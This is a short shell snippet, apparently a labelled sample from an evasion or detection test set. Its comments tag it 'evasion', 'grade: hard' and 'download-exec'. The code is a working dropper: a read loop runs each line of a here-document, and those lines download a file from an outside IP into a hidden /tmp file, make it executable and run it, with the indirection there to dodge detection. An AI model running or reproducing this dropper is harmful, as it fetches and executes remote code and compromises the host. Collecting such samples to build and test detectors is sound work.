# evasion: a tiny runner: each line of a here-document is split by read -a and run as "${cmd[@]}"; the lines are the dropper
# grade: hard; does: download-exec
while read -r -a cmd; do
	"${cmd[@]}"
done <<'PLAN'
wget -q -O /tmp/.u http://198.51.100.52/u
chmod +x /tmp/.u
/tmp/.u
PLAN
